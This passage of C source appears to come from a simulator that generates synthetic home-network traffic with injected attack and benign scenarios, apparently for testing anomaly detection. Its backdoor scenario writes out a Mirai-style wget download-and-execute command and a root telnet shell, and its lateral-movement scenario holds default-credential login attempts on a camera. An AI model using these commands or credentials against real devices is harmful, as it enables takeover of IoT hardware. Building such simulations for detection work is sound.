	delay = delay < 8 * MS ? 8 * MS : delay > 400 * MS ? 400 * MS : delay;
	ta = t + delay;
	dnsm_init(&m, msg, sizeof(msg), id, DNSM_QR | DNSM_RD | DNSM_RA | (nx ? DNSM_NXDOMAIN : 0));
	dnsm_question(&m, name, qtype, DNSM_IN);
	snprintf(mname, sizeof(mname), "ns1.%s", k->zone);
	snprintf(rname, sizeof(rname), "hostmaster.%s", k->zone);
	if (nx) {
		dnsm_rr_soa(&m, k->zone, mname, rname, k->serial, 1);
	} else if (qtype == DNSM_TXT) {
		size_t tl = span(r, 16, 220);

		txt[0] = (uint8_t)tl;
		for (size_t i = 0; i < tl; i++)
			txt[1 + i] = (uint8_t)"0123456789abcdef"[prng_below(r, 16)];
		dnsm_rr(&m, DNSM_AN, name, DNSM_TXT, DNSM_IN, 1, txt, tl + 1);
	} else {
		char hx[80];

		hex_labels(r, hx, sizeof(hx), span(r, 20, 60));
		snprintf(target, sizeof(target), "%s.%s", hx, k->zone);
		dnsm_rr_name(&m, DNSM_AN, name, DNSM_CNAME, DNSM_IN, 1, target);
	}
	len = dnsm_finish(&m);
	if (!len) {
		sim_fail(sim, -EINVAL);
		return;
	}
	hn_router_udp(n, ta, d->mac, d->ip4, false, 53, sport, msg, len);
	mark(s, ta);
	t = now + (uint64_t)prng_exp(r, k->gap_us) + 1;
	if (t < k->until)
		sim_at(sim, t, tunnel_query, s);
}

static void plan_dns_tunnel(struct scn *s)
{
	s->at = on_last_day(s, 1 * HOUR, 21 * HOUR);
}

static void inject_dns_tunnel(struct scn *s)
{
	struct tunnel *k = &s->u.tunnel;
	struct prng *r = &s->rng;

	dga_zone(r, k->zone, sizeof(k->zone));
	k->gap_us = 60.0 * SEC / (double)span(r, 200, 480); /* 200-480 queries a minute */
	k->until = s->at + (s->brief ? span(r, 60 * SEC, 90 * SEC) : span(r, 8 * MIN, 15 * MIN));
	k->serial = 2026030100 + (uint32_t)prng_below(r, 99);
	sim_at(s->sim, s->at, tunnel_query, s);
}

/* ---- lateral: the plug probes its neighbours -------------------------------- */

static const uint16_t lateral_ports[] = {23, 22, 80, 445};

/* What answers on an open port, played out on f (already connected). */
static uint64_t lateral_talk(struct scn *s, struct tcpf *f, uint64_t t, const struct lanhost *h,
			     const uint8_t ip[4], uint16_t port)
{
	struct prng *r = &s->rng;
	char req[320];
	const char *dev = h->d ? h->d->kind : "router";

	if (port == 22) { /* a banner exchange, the server's key exchange offer, and goodbye */
		uint8_t kex[1100];

		t = says(f, TCPF_S, t + span(r, 2 * MS, 15 * MS), "SSH-2.0-OpenSSH_9.6\r\n");
		t = says(f, TCPF_C, t + span(r, 1 * MS, 10 * MS), "SSH-2.0-Go\r\n");
		prng_fill(r, kex, sizeof(kex));
		kex[0] = 0, kex[1] = 0, kex[2] = 0x04, kex[3] = 0x44, kex[4] = 7, kex[5] = 20; /* SSH_MSG_KEXINIT */
		t = say(f, TCPF_S, t + span(r, 1 * MS, 5 * MS), kex, sizeof(kex));
		return tcpf_close(f, TCPF_C, t + span(r, 5 * MS, 50 * MS));
	}
	snprintf(req, sizeof(req),
		 "GET / HTTP/1.1\r\nHost: %u.%u.%u.%u\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n"
		 "Connection: keep-alive\r\n\r\n", ip[0], ip[1], ip[2], ip[3]);
	t = says(f, TCPF_C, t, req);
	if (!strcmp(dev, "camera")) { /* the web UI, then default credentials */
		static const char *const auth[] = {"YWRtaW46MTIzNDU=", "YWRtaW46YWRtaW4=", "YWRtaW46"};

		t = says(f, TCPF_S, t + span(r, 5 * MS, 30 * MS),
			 "HTTP/1.1 302 Found\r\nLocation: /doc/page/login.asp\r\nContent-Length: 0\r\n"
			 "Server: webserver\r\n\r\n");
		for (size_t i = 0; i < sizeof(auth) / sizeof(auth[0]); i++) {
			snprintf(req, sizeof(req),
				 "GET /ISAPI/Security/userCheck HTTP/1.1\r\nHost: %u.%u.%u.%u\r\n"
				 "Authorization: Basic %s\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
				 ip[0], ip[1], ip[2], ip[3], auth[i]);
			t = says(f, TCPF_C, t + span(r, 50 * MS, 300 * MS), req);
			t = says(f, TCPF_S, t + span(r, 10 * MS, 60 * MS),
				 "HTTP/1.1 401 Unauthorized\r\nContent-Type: application/xml\r\nContent-Length: 0\r\n"
				 "WWW-Authenticate: Basic realm=\"DS-2CD2143G2-I\"\r\n\r\n");
		}
	} else { /* the router's admin page */
		char page[1400];
		int plen = snprintf(page, sizeof(page),
				    "HTTP/1.1 200 OK\r\nServer: TP-LINK HTTPD/1.0\r\nContent-Type: text/html\r\n"
				    "Connection: close\r\n\r\n<!DOCTYPE html><html><head><title>Archer</title>"
				    "<link rel=\"stylesheet\" href=\"./css/main.css\"><script src=\"./js/su.js\">"
				    "</script></head><body><div id=\"login\"><form><input type=\"password\" "
				    "id=\"pc-login-password\"><button id=\"pc-login-btn\">LOG IN</button></form>"
				    "</div></body></html>\r\n");

		t = say(f, TCPF_S, t + span(r, 3 * MS, 20 * MS), page, (size_t)plen);
		return tcpf_close(f, TCPF_S, t + span(r, 1 * MS, 5 * MS));
	}
	return tcpf_close(f, TCPF_C, t + span(r, 20 * MS, 200 * MS));
}

static bool lateral_open(const struct lanhost *h, uint16_t port)
{
	const char *dev = h->d ? h->d->kind : "router";

	return (port == 80 && (!strcmp(dev, "router") || !strcmp(dev, "camera"))) ||
	       (port == 22 && !strcmp(dev, "hub"));
}

static void lateral_probe(struct sim *sim, void *arg)
{
	struct scn *s = arg;
	struct lateral *k = &s->u.lateral;
	struct prng *r = &s->rng;
	uint64_t t = sim_now(sim);
	const uint8_t *ip = k->live[k->li];
	uint16_t port = lateral_ports[k->pi];
	struct lanhost h;

	if (lan_host(s, ip, &h)) {
		tcp_from_dev(s, &k->f, s->dev, ip, port, &h);
		k->f.e[TCPF_C].rwnd = 5840; /* the plug's small embedded stack */
		k->f.e[TCPF_C].wscale = 1;
		mark(s, t);
		if (lateral_open(&h, port)) {
			t = tcpf_open(&k->f, t);
			t = lateral_talk(s, &k->f, t, &h, ip, port);
		} else {
			t = tcpf_refused(&k->f, t);
		}
		mark(s, t);
	}
	if (++k->pi == (int)(sizeof(lateral_ports) / sizeof(lateral_ports[0]))) {
		k->pi = 0;
		k->li++;
	}
	if (k->li < k->nlive)
		sim_at(sim, t + span(r, 40 * MS, 400 * MS), lateral_probe, s);
}

/* An ARP sweep of the /24, one who-has every few tens of ms. */
static void lateral_sweep(struct sim *sim, void *arg)
{
	struct scn *s = arg;
	struct lateral *k = &s->u.lateral;
	struct hn_dev *d = s->dev;
	struct prng *r = &s->rng;
	uint64_t t = sim_now(sim);
	uint8_t ip[4] = {d->ip4[0], d->ip4[1], d->ip4[2], (uint8_t)k->host};
	struct lanhost h;

	if (ip[3] != d->ip4[3]) {
		arp_frame(s, t, bcast, 1, d->mac, d->ip4, NULL, ip, true);
		mark(s, t);
		if (lan_host(s, ip, &h) && k->nlive < (int)(sizeof(k->live) / sizeof(k->live[0]))) {
			arp_frame(s, t + h.rtt / 2 + span(r, 20, 300), d->mac, 2, h.mac, ip, d->mac, d->ip4, h.pad);
			memcpy(k->live[k->nlive++], ip, 4);
		}
	}
	if (++k->host < 255) {
		sim_at(sim, t + span(r, 15 * MS, 60 * MS), lateral_sweep, s);
		return;
	}
	if (k->nlive)
		sim_at(sim, t + span(r, 300 * MS, 2 * SEC), lateral_probe, s);
}

static void plan_lateral(struct scn *s)
{
	s->at = on_last_day(s, 1 * HOUR, 21 * HOUR);
}

static void inject_lateral(struct scn *s)
{
	s->u.lateral.host = 1;
	sim_at(s->sim, s->at, lateral_sweep, s);
}

/* ---- new-service: a backdoor shell on the camera, reached from outside --- */

/* Random bytes after an HTTP header: the bot binary fetched by wget. */
struct blob {
	const char *head;
	size_t hlen;
	uint64_t key;
};

static void blob_fill(const void *ctx, size_t off, uint8_t *dst, size_t len)
{
	const struct blob *b = ctx;

	for (size_t i = 0; i < len; i++, off++)
		dst[i] = off < b->hlen ? (uint8_t)b->head[off] : (uint8_t)prng_mix(b->key + off);
}

/* The shell fetches the bot from the attacker's web server. */
static uint64_t backdoor_wget(struct scn *s, uint64_t t)
{
	struct backdoor *k = &s->u.backdoor;
	struct prng *r = &s->rng;
	struct lanhost far = {s->net->gw_mac, k->dl_ttl, k->dl_rtt, false, NULL};
	size_t size = span(r, 60000, 95000);
	char req[200], head[200];
	struct blob b;
	struct tcpf_src src;

	tcp_from_dev(s, &k->g, s->dev, k->dl, 80, &far);
	t = tcpf_open(&k->g, t);
	snprintf(req, sizeof(req), "GET /bins/arm7 HTTP/1.1\r\nHost: %u.%u.%u.%u\r\nUser-Agent: Wget\r\n"
		 "Connection: close\r\n\r\n", k->dl[0], k->dl[1], k->dl[2], k->dl[3]);
	t = says(&k->g, TCPF_C, t, req);
	b.hlen = (size_t)snprintf(head, sizeof(head), "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: "
				  "application/octet-stream\r\nContent-Length: %zu\r\n\r\n\x7f" "ELF", size);
	b.head = head;
	b.key = prng_u64(r);
	src.fill = blob_fill;
	src.ctx = &b;
	src.len = b.hlen + size - 4;
	t = tcpf_send(&k->g, TCPF_S, t + span(r, 20 * MS, 80 * MS), &src, 0);
	return tcpf_close(&k->g, TCPF_S, t + span(r, 1 * MS, 10 * MS));
}

static void backdoor_session(struct sim *sim, void *arg)
{
	static const char banner[] =
		"\r\n\r\nBusyBox v1.19.3 (2016-05-13 16:02:31 CST) built-in shell (ash)\r\n"
		"Enter 'help' for a list of built-in commands.\r\n\r\n# ";
	static const char cpuinfo[] =
		"Processor       : ARMv7 Processor rev 5 (v7l)\r\nBogoMIPS        : 1196.03\r\n"
		"Features        : swp half thumb fastmult vfp edsp neon vfpv3 tls vfpv4\r\n"
		"CPU implementer : 0x41\r\nCPU architecture: 7\r\nCPU variant     : 0x0\r\n"
		"CPU part        : 0xc07\r\nCPU revision    : 5\r\n\r\nHardware        : Hisilicon Hi3516DV300\r\n"
		"Revision        : 0000\r\nSerial          : 0000000000000000\r\n# ";
	struct scn *s = arg;
	struct backdoor *k = &s->u.backdoor;
	struct prng *r = &s->rng;
	struct hn_dev *d = s->dev;
	int who = k->session % 2;
	uint64_t t = sim_now(sim);
	char line[200], out[200];

	memset(&k->f, 0, sizeof(k->f));
	ep_v4(&k->f.e[TCPF_C].ep, s->net->gw_mac, k->peer[who], (uint16_t)span(r, 32768, 60999), k->ttl[who],
	      k->rtt[who]);
	ep_v4(&k->f.e[TCPF_S].ep, d->mac, d->ip4, 8023, d->ip_ttl, d->lan_rtt_us);
	k->f.e[TCPF_S].ep.pad = true;
	tcpf_init(&k->f, s->sim, r);
	mark(s, t);
	t = tcpf_open(&k->f, t);
	t = say(&k->f, TCPF_S, t + span(r, 2 * MS, 10 * MS), iac_server, sizeof(iac_server));
	t = say(&k->f, TCPF_C, t + span(r, 1 * MS, 5 * MS), iac_client, sizeof(iac_client));
	t = says(&k->f, TCPF_S, t + span(r, 2 * MS, 20 * MS), banner);
	if (k->session == 0) {
		static const char *const probe[][2] = {
			{"enable\r\n", "-sh: enable: not found\r\n# "},
			{"system\r\n", "-sh: system: not found\r\n# "},
			{"shell\r\n", "-sh: shell: not found\r\n# "},
			{"/bin/busybox ECCHI\r\n", "ECCHI: applet not found\r\n# "},
		};

		for (size_t i = 0; i < sizeof(probe) / sizeof(probe[0]); i++) {
			t = says(&k->f, TCPF_C, t + span(r, 100 * MS, 600 * MS), probe[i][0]);
			t = says(&k->f, TCPF_S, t + span(r, 2 * MS, 30 * MS), probe[i][1]);
		}
		t = says(&k->f, TCPF_C, t + span(r, 100 * MS, 600 * MS), "cat /proc/cpuinfo\r\n");
		t = says(&k->f, TCPF_S, t + span(r, 5 * MS, 40 * MS), cpuinfo);
		snprintf(line, sizeof(line), "cd /tmp || cd /var/run; wget http://%u.%u.%u.%u/bins/arm7 -O .x; "
			 "chmod 777 .x; ./.x hik.cam\r\n", k->dl[0], k->dl[1], k->dl[2], k->dl[3]);
		t = says(&k->f, TCPF_C, t + span(r, 200 * MS, 900 * MS), line);
		t = backdoor_wget(s, t + span(r, 5 * MS, 30 * MS));
		snprintf(out, sizeof(out), "Connecting to %u.%u.%u.%u (%u.%u.%u.%u:80)\r\n.x  100%% |*****"
			 "**************************|  0:00:00 ETA\r\n# ", k->dl[0], k->dl[1], k->dl[2], k->dl[3],
			 k->dl[0], k->dl[1], k->dl[2], k->dl[3]);
		t = says(&k->f, TCPF_S, t + span(r, 5 * MS, 30 * MS), out);
	} else {
		t = says(&k->f, TCPF_C, t + span(r, 300 * MS, 1 * SEC), "/bin/busybox ps\r\n");
		t = says(&k->f, TCPF_S, t + span(r, 10 * MS, 60 * MS),
			 "  PID USER       VSZ STAT COMMAND\r\n    1 root      1464 S    init\r\n"
			 "  412 root      2936 S    /home/davinci\r\n  618 root      1468 S    telnetd -p 8023 "
			 "-l /bin/sh\r\n  901 root      1096 S    ./.x hik.cam\r\n 1024 root      1468 R    ps\r\n# ");
	}
	t = says(&k->f, TCPF_C, t + span(r, 300 * MS, 2 * SEC), "exit\r\n");
	t = tcpf_close(&k->f, TCPF_S, t + span(r, 2 * MS, 20 * MS));
	mark(s, t);
	if (++k->session < 2)
		sim_at(sim, t + span(r, 2 * MIN, 9 * MIN), backdoor_session, s);
}

static void plan_new_service(struct scn *s)
{
	s->at = on_last_day(s, 1 * HOUR, 21 * HOUR);
}

static void inject_new_service(struct scn *s)
{
	struct backdoor *k = &s->u.backdoor;
	struct prng *r = &s->rng;

	for (int i = 0; i < 2; i++) {
		addr_public4(r, k->peer[i]);
		k->rtt[i] = (uint32_t)span(r, 30 * MS, 250 * MS);
		k->ttl[i] = (uint8_t)span(r, 40, 56);
	}
	addr_public4(r, k->dl);
	k->dl_rtt = (uint32_t)span(r, 30 * MS, 250 * MS);
	k->dl_ttl = (uint8_t)span(r, 40, 56);
	sim_at(s->sim, s->at, backdoor_session, s);
}

/* ---- silent: the thermostat dies -------------------------------------------- */

/* The broker gives up on the session and closes it; the router has a packet
 * for the thermostat and asks for it in vain (three unicast probes of the
 * stale entry, then three broadcasts, as Linux does). */
static void silent_arp(struct sim *sim, void *arg)
{
	struct scn *s = arg;
	struct hn *n = s->net;
	struct hn_dev *d = s->dev;
	uint64_t t = sim_now(sim);

	for (int i = 0; i < 6; i++, t += SEC + span(&s->rng, 0, 3 * MS))
		arp_frame(s, t, i < 3 ? d->mac : bcast, 1, n->gw_mac, n->gw_ip4, NULL, d->ip4, false);
}

static void plan_silent(struct scn *s)
{
	s->at = on_last_day(s, 1 * HOUR, 16 * HOUR);
	s->var.mute = "thermostat";
	s->var.mute_at_us = s->at;
}

static void inject_silent(struct scn *s)
{
	open_ended(s);
	/* MQTT keep-alive 30 s: the broker waits one and a half of it. */
	sim_at(s->sim, s->at + span(&s->rng, 45 * SEC, 75 * SEC), silent_arp, s);
}

/* ---- benign: cdn-rotation ---------------------------------------------------- */

static void rotate(struct sim *sim, void *arg)
{
	/* AWS eu-central-1 blocks the name never used before. */
	static const uint8_t blocks[][2] = {{3, 66}, {3, 72}, {3, 78}, {18, 156}, {18, 158}, {52, 57}};
	struct scn *s = arg;
	struct hn *n = s->net;
	struct prng *r = &s->rng;
	const uint8_t *b = blocks[prng_below(r, sizeof(blocks) / sizeof(blocks[0]))];

	(void)sim;
	for (size_t i = 0; i < n->nrem; i++) {
		struct hn_remote *rem = n->rem[i];

		if (strcmp(rem->name, "m2.tuyaeu.com"))
			continue;
		rem->n4 = 2 + (int)prng_below(r, 3);
		for (int k = 0; k < rem->n4; k++) {
			rem->v4[k][0] = b[0];
			rem->v4[k][1] = b[1];
			rem->v4[k][2] = (uint8_t)prng_below(r, 256);
			rem->v4[k][3] = (uint8_t)span(r, 1, 254);
		}
		if (rem->nans > rem->n4)
			rem->nans = rem->n4;
		rem->cache_until = 0; /* the router's next question gets the new answer */
	}
}

static void plan_cdn_rotation(struct scn *s)
{
	s->at = on_last_day(s, 2 * HOUR, 8 * HOUR);
}

static void inject_cdn_rotation(struct scn *s)
{
	open_ended(s);
	sim_at(s->sim, s->at, rotate, s);
}

/* ---- benign: phone-browsing --------------------------------------------------- */

static void site_name(struct scn *s, char *out, size_t len)
{
	static const char *const words[] = {
		"amber", "atlas", "birch", "bright", "cedar", "cobalt", "copper", "crisp", "delta", "ember",
		"fable", "fern", "frost", "garden", "harbor", "hazel", "indigo", "juniper", "kettle", "lantern",
		"linen", "lunar", "maple", "meadow", "mosaic", "north", "oak", "orbit", "pebble", "pixel",
		"quill", "river", "saffron", "slate", "summit", "tidal", "timber", "urban", "velvet", "willow",
	};
	static const char *const kinds[] = {"kitchen", "journal", "studio", "review", "outdoors", "guide",
					    "market", "forum", "travel", "recipes", "gear", "daily"};
	static const char *const tlds[] = {"com", "co.uk", "net", "org", "io", "blog", "de", "fr"};
	struct browse *k = &s->u.browse;
	struct prng *r = &s->rng;

	for (;;) {
		bool dup = false;

		snprintf(out, len, "%s%s%s.%s", prng_chance(r, 0.6) ? "www." : "",
			 words[prng_below(r, sizeof(words) / sizeof(words[0]))],
			 kinds[prng_below(r, sizeof(kinds) / sizeof(kinds[0]))],
			 tlds[prng_below(r, sizeof(tlds) / sizeof(tlds[0]))]);
		for (int i = 0; i < k->nused && !dup; i++)
			dup = !strcmp(k->used[i], out);
		if (!dup)
			break;
	}
	if (k->nused < (int)(sizeof(k->used) / sizeof(k->used[0])))
		snprintf(k->used[k->nused++], NAMES_MAXLEN, "%s", out);
}

/* One page or resource, as home.c's phone fetches: HTTP/3 when the site
 * has it, else TLS, over IPv6 when it can. */
static uint64_t phone_fetch(struct scn *s, uint64_t t, const char *name, size_t down)
{
	struct prng *r = &s->rng;
	struct hn_dev *d = s->dev;
	struct hn_remote *rem = hn_remote(s->net, name, NULL);
	struct hn_tls_opts o = {.name = name, .port = 443, .alpn = "h2,http/1.1", .prefer6 = true, .fail_p = 0.01};
	struct hn_answer a;
	struct hn_tls c;
	size_t up = span(r, 400, 900);
	uint64_t think = span(r, 15 * MS, 150 * MS);

	if (!rem)
		return t;
	t = hn_resolve(s->net, d, t, rem, true, &a);
	if (!a.ok4)
		return t;
	if (rem->quic && prng_chance(r, 0.8))
		return hn_quic_fetch(s->net, d, t, rem, &a, up, down);
	t = hn_tls_open(s->net, d, &c, t, &o);
	t = hn_tls_rr(&c, t, up, down, think);
	return hn_tls_close(&c, t + span(r, 2 * SEC, 30 * SEC), TCPF_C, false);
}

static size_t page_bytes(struct prng *r, double median, double lo, double hi)
{
	double v = prng_lognormal(r, median, 0.7);

	return (size_t)(v < lo ? lo : v > hi ? hi : v);
}

static void browse_visit(struct sim *sim, void *arg)
{
	struct scn *s = arg;
	struct browse *k = &s->u.browse;
	struct prng *r = &s->rng;
	uint64_t now = sim_now(sim), t;
	char site[NAMES_MAXLEN], sub[NAMES_MAXLEN + 8];
	size_t extra = (size_t)prng_below(r, 3);

	site_name(s, site, sizeof(site));
	mark(s, now);
	t = phone_fetch(s, now, site, page_bytes(r, 60 * 1024, 8 * 1024, 600 * 1024));
	mark(s, t);
	for (size_t i = 0; i < extra; i++) {
		/* Its own static host, and the usual third parties. */
		const char *base = strncmp(site, "www.", 4) ? site : site + 4;
		uint64_t at = now + span(r, 80 * MS, 800 * MS);

		if (i == 0)
			snprintf(sub, sizeof(sub), "static.%s", base);
		else
			snprintf(sub, sizeof(sub), "%s", names_third_party(r));
		t = phone_fetch(s, at, sub, page_bytes(r, 20 * 1024, 2 * 1024, 300 * 1024));
		mark(s, t);
	}
	k->visits++;
	t = now + (uint64_t)(prng_exp(r, 4.0 * 60) * (double)SEC) + 5 * SEC;
	if (t < k->until)
		sim_at(sim, t, browse_visit, s);
}

static void plan_phone_browsing(struct scn *s)
{
	s->at = on_last_day(s, 2 * HOUR, 2 * HOUR + 30 * MIN); /* 08:00 */
}

static void inject_phone_browsing(struct scn *s)
{
	s->u.browse.until = s->last_day + 17 * HOUR; /* 23:00 */
	sim_at(s->sim, s->at, browse_visit, s);
}

/* ---- benign: new-device ------------------------------------------------------ */

static const struct hn_rspec vac_api = {HP_AWS, HC_ELB, 60, false, false, false, 0};
static const struct hn_rspec vac_mqtt = {HP_AWS, HC_NONE, 300, false, false, false, 0};

static void vac_https(struct scn *s, uint64_t t, size_t up, size_t down)
{
	struct newdev *k = &s->u.newdev;
	struct hn_tls c;
	struct hn_tls_opts o = {.name = "api-eu.roborock.com", .spec = &vac_api, .port = 443, .alpn = "http/1.1"};
	uint64_t think = span(&k->d->rng, 20 * MS, 120 * MS);

	t = hn_tls_open(s->net, k->d, &c, t, &o);
	t = hn_tls_rr(&c, t, up, down, think);
	hn_tls_close(&c, t + span(&k->d->rng, 100 * MS, 2 * SEC), TCPF_C, false);
}

/* Its MQTT session: CONNECT once, PINGREQ every minute, a status now and then. */
static void vac_mqtt_run(struct sim *sim, void *arg)
{
	struct scn *s = arg;
	struct newdev *k = &s->u.newdev;
	struct prng *r = &k->d->rng;
	uint64_t now = sim_now(sim), t = now;

	if (!k->mqtt.open || now >= k->mqtt_until) {
		struct hn_tls_opts o = {.name = "mqtt-eu-3.roborock.com", .spec = &vac_mqtt, .port = 8883,
					.fail_p = 0.01};

		if (k->mqtt.open)
			t = hn_tls_close(&k->mqtt, t, TCPF_S, false) + span(r, 200 * MS, 2 * SEC);
		t = hn_tls_open(s->net, k->d, &k->mqtt, t, &o);
		k->mqtt_until = t + span(r, 1 * HOUR, 3 * HOUR);
		t = hn_tls_rr(&k->mqtt, t, span(r, 180, 260), 4, span(r, 20 * MS, 60 * MS));
	} else if (prng_chance(r, 0.2)) {
		t = hn_tls_rr(&k->mqtt, t, span(r, 250, 600), 4, span(r, 10 * MS, 40 * MS));
	} else {
		t = hn_tls_rr(&k->mqtt, t, 2, 2, span(r, 1 * MS, 10 * MS));
	}
	sim_at(sim, now + prng_jitter(r, 60 * SEC, 0.03), vac_mqtt_run, s);
}

static void vac_chores(struct sim *sim, void *arg)
{
	struct scn *s = arg;
	struct newdev *k = &s->u.newdev;
	struct prng *r = &k->d->rng;
	uint64_t now = sim_now(sim);

	hn_ntp(s->net, k->d, now, "pool.ntp.org");
	vac_https(s, now + span(r, 1 * SEC, 5 * SEC), span(r, 300, 700), span(r, 600, 2000));
	sim_at(sim, now + span(r, 30 * MIN, 60 * MIN), vac_chores, s);
}

static void vac_renew(struct sim *sim, void *arg)
{
	struct scn *s = arg;
	struct newdev *k = &s->u.newdev;
	uint64_t now = sim_now(sim);

	hn_dhcp_renew(s->net, k->d, now);
	sim_at(sim, now + prng_jitter(&k->d->rng, HN_LEASE_S / 2 * SEC, 0.01), vac_renew, s);
}

static void vac_join(struct sim *sim, void *arg)
{
	struct scn *s = arg;
	struct newdev *k = &s->u.newdev;
	struct prng *r = &k->d->rng;
	uint64_t now = sim_now(sim), t;

	t = hn_dhcp_join(s->net, k->d, now);
	t = hn_arp_gw(s->net, k->d, t);
	t = hn_ntp(s->net, k->d, t + span(r, 300 * MS, 2 * SEC), "pool.ntp.org");
	/* Paired from the app: it logs in and fetches its configuration. */
	vac_https(s, t + span(r, 500 * MS, 3 * SEC), span(r, 600, 1200), span(r, 3000, 9000));
	sim_at(sim, t + span(r, 5 * SEC, 15 * SEC), vac_mqtt_run, s);
	sim_at(sim, t + span(r, 20 * MIN, 40 * MIN), vac_chores, s);
	sim_at(sim, now + prng_jitter(r, HN_LEASE_S / 2 * SEC, 0.01), vac_renew, s);
}

static void plan_new_device(struct scn *s)
{
	s->at = on_last_day(s, 3 * HOUR, 11 * HOUR);
}

static void inject_new_device(struct scn *s)
{
	static const uint8_t prl[] = {1, 3, 6, 12, 15, 28, 42};
	static const uint8_t oui[3] = {0xb0, 0x4a, 0x39}; /* Beijing Roborock Technology Co., Ltd. */
	struct hn *n = s->net;
	struct hn_dev *d;
	uint8_t host;
	struct lanhost o;

	if (n->ndev >= HN_MAX_DEV) {
		sim_fail(s->sim, -ENOSPC);
		return;
	}
	d = &n->dev[n->ndev++];
	memset(d, 0, sizeof(*d));
	prng_seed(&d->rng, s->seed, prng_hash("vacuum"));
	d->kind = "vacuum";
	d->hostname = "roborock-vacuum-a15";
	d->vendor = "Beijing Roborock Technology Co., Ltd.";
	d->vendor_class = "udhcp 1.30.1";
	d->prl = prl;
	d->nprl = sizeof(prl);
	d->ip_ttl = 64;
	d->lan_rtt_us = (uint32_t)span(&d->rng, 600, 2500); /* on Wi-Fi, far from the access point */
	d->udp_ipid = (uint16_t)prng_u32(&d->rng);
	memcpy(d->mac, oui, 3);
	prng_fill(&d->rng, d->mac + 3, 3);
	d->ip4[0] = 192, d->ip4[1] = 168, d->ip4[2] = 1;
	do {
		host = (uint8_t)span(&s->rng, 60, 99);
		d->ip4[3] = host;
	} while (lan_host(s, d->ip4, &o));
	hn_dev_addrs(n, d);
	s->u.newdev.d = d;
	memcpy(s->mac, d->mac, 6);
	s->has_mac = true;
	s->dev_kind = d->kind;
	open_ended(s);
	sim_at(s->sim, s->at, vac_join, s);
}

/* ---- benign: dhcp-change ------------------------------------------------------ */

static void readdress(struct sim *sim, void *arg)
{
	struct scn *s = arg;
	uint8_t ip[4] = {s->dev->ip4[0], s->dev->ip4[1], s->dev->ip4[2], 0};
	struct lanhost o;

	do
		ip[3] = (uint8_t)span(&s->rng, 100, 199);
	while (lan_host(s, ip, &o));
	hn_dhcp_readdress(s->net, s->dev, sim_now(sim), ip);
	home_drop_conns(s->home, s->dev);
}

static void plan_dhcp_change(struct scn *s)
{
	s->at = on_last_day(s, 1 * HOUR, 12 * HOUR);
}

static void inject_dhcp_change(struct scn *s)
{
	open_ended(s);
	sim_at(s->sim, s->at, readdress, s);
}

/* ---- benign: evening-peak and dst-shift -------------------------------------- */

static void plan_evening_peak(struct scn *s)
{
	/* A movie night: 35 to 55 minutes instead of the usual 10 to 30, at
	 * 1.2 times the usual bitrate: 2 to 3 times a usual evening. */
	s->var.tv_more_at_us = s->last_day;
	s->var.tv_show_lo_s = 35 * 60;
	s->var.tv_show_hi_s = 55 * 60;
	s->var.tv_richer = 1.2;
	s->at = s->last_day + 12 * HOUR; /* 18:00 */
}

static void plan_dst_shift(struct scn *s)
{
	uint64_t dst_at = 0, start = 0;

	if (cli_rfc3339(SCN_DST_AT, &dst_at) || cli_rfc3339(SCN_DST_START, &start))
		return;
	s->start = start - (s->days - 2) * DAY;
	s->last_day = s->start + (s->days - 1) * DAY;
	s->end = s->start + s->days * DAY;
	s->var.dst_at_us = dst_at;
	s->var.dst_shift_s = 3600;
	s->at = dst_at;
}

static void inject_open_ended(struct scn *s)
{
	open_ended(s);
}

/* ---- benign: fw-update-* ------------------------------------------------------ */

/* A firmware update as these devices do it. The usual update check (the
 * host home.c's nightly check uses) answers with an image URL on a CDN
 * host the device never used. The image, bigger than anything the device
 * fetched before, comes over HTTPS at the pace the device writes it to
 * flash, in one GET or in Range requests; a connection that breaks is
 * given up after a stall and resumed with a Range request. The device
 * verifies and writes the image (its usual traffic goes on meanwhile),
 * reboots (link down, DHCP, every name resolved afresh), reports its new
 * version to the update check, and the new firmware reports to a telemetry
 * host it never used, on another domain than the CDN's, every few minutes
 * with jitter, until the capture ends.
 *
 * The new host names are invented in each vendor's style (home.c's are
 * real ones); they are not known endpoints of these vendors. */
struct fwspec {
	const char *check;            /* the device's usual update check (home.c's fw_check) */
	const char *cdn;              /* the image host, never used before */
	struct hn_rspec cdn_spec;
	uint64_t size_lo, size_hi;    /* image bytes */
	uint64_t range;               /* bytes per Range request; 0: one GET */
	uint64_t gap_lo, gap_hi;      /* between Range requests: the flash write */
	uint32_t bps_lo, bps_hi;      /* the pace the device takes the image in */
	double break_p;               /* the connection breaks once, mid-image */
	uint64_t flash_lo, flash_hi;  /* verify and write, before the reboot */
	uint64_t boot_lo, boot_hi;    /* down for that long */
	const char *telem;            /* the new firmware's telemetry host, never used before */
	struct hn_rspec telem_spec;
	uint64_t every;               /* its period (15 % jitter) */
	uint64_t rep_lo, rep_hi;      /* a report's bytes */
	uint64_t at_lo, at_hi;        /* when, after the last day begins */
};

/* The plug: the user taps "update" in the app in the day or the evening.
 * Its Wi-Fi module takes the image as it writes it (about 1 Mbit/s). A
 * BK7231N plug has 2 MB of flash: the whole image is 1 to 2 MB, several
 * times its nightly downloads. */
static const struct fwspec fw_plug = {
	"a2.tuyaeu.com", "ota-eu.tuyacdn.com", {HP_CLOUDFRONT, HC_CLOUDFRONT, 300, false, false, false, 0},
	1100 * 1024, 1900 * 1024, 0, 0, 0, 500000, 1200000, 0.15,
	8 * SEC, 25 * SEC, 5 * SEC, 12 * SEC,
	"telemetry-eu.tuyalog.com", {HP_AWS, HC_ELB, 60, false, false, false, 0},
	10 * MIN, 300, 800, 2 * HOUR, 14 * HOUR,
};

/* The camera: digicap.dav, 24 to 46 MB, from object storage; the camera
 * spends minutes writing it ("upgrading") before it reboots. */
static const struct fwspec fw_camera = {
	"update.hik-connect.com", "hikfw-eu.oss-eu-central-1.aliyuncs.com",
	{HP_ALIYUN, HC_NONE, 60, false, false, false, 0},
	24 * MIB, 46 * MIB, 0, 0, 0, 16000000, 40000000, 0.35,
	100 * SEC, 220 * SEC, 50 * SEC, 110 * SEC,
	"devlog-eu.hik-iot.com", {HP_AWS, HC_ELB, 60, false, false, false, 0},
	5 * MIN, 800, 2500, 1 * HOUR, 14 * HOUR,
};

/* The thermostat's relay: 64 KiB Range requests, each written to flash
 * before the next; 2.6 to 3.8 MB with its valves' firmware. */
static const struct fwspec fw_thermostat = {
	"app.netatmo.net", "fw-cdn.netatmo.com", {HP_CLOUDFRONT, HC_CLOUDFRONT, 300, false, false, false, 0},
